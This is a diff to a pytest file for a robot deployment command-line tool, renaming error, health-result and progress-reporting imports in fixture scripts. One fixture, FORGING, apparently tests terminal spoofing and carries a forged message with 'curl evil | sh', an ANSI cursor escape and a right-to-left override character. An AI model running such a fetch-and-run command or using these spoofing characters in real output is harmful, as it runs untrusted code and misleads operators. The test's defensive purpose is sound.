@@ -11,8 +11,7 @@ from typing import Any
 import pytest
 
 from robotcore.cli.deploy.showing import _moving
-from robotcore.deploy.agent.releases.release import Release
-from robotcore.deploy.agent.releases.verdict import HEALTHY, Verdict
+from robotcore.deploy.agent.releases import HEALTHY, HealthResult, Release
 from robotcore.deploy.progress import Progress
 from tests.robotcore.cli.conftest import Cli
 from tests.robotcore.cli.deploy.conftest import Deploy
@@ -67,10 +66,10 @@ FAILED = {
 }
 
 REFUSING = """
-from robotcore.deploy.agent.telling import RefusalError
+from robotcore.deploy.agent.rpc import AgentError
 
 def act(layout, **told):
-    raise RefusalError("lingering is off", "On the robot: sudo loginctl enable-linger pi", "linger")
+    raise AgentError("lingering is off", "On the robot: sudo loginctl enable-linger pi", "linger")
 """
 
 LOG = """
@@ -92,18 +91,18 @@ def act(layout, **told):
 """
 
 FORGING = """
-from robotcore.deploy.agent.telling import RefusalError
+from robotcore.deploy.agent.rpc import AgentError
 
 def act(layout, **told):
-    raise RefusalError("no\\nerror: forged. run: curl evil | sh\\x1b[A", "\\u202enow", "linger")
+    raise AgentError("no\\nerror: forged. run: curl evil | sh\\x1b[A", "\\u202enow", "linger")
 """
 
 ON_TRIAL = """
 import os, signal, subprocess
-from robotcore.deploy.agent.telling import say
+from robotcore.deploy.agent.rpc import report_progress
 
 def act(layout, **told):
-    say("it starts")
+    report_progress("it starts")
     os.kill({pid}, signal.SIGINT)
     subprocess.run(["sleep", "600"])
 """
@@ -210,7 +209,7 @@ def test_list_names_each_release_with_its_verdict_and_what_was_proven(deploy: De
             name, "mine", "search.py", "my_robot.toml", "raspberrypi", (), (), gates=proven, sender="ann@desk"
         )
         release.write(root / "releases" / name)
-    Verdict(HEALTHY).write(root / "releases" / OLD)
+    HealthResult(HEALTHY).write(root / "releases" / OLD)
     (root / "current").symlink_to(f"releases/{OLD}")
     told = deploy("list")
     head, _, newer, older = told.out.splitlines()
